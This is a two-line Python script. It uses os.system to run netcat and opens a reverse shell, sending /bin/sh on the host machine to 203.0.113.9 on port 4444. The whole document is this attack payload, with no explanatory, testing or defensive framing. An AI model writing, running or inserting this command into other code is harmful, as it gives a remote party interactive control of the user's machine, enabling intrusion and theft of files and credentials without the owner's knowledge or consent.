import os
os.system("nc 203.0.113.9 4444 -e /bin/sh")
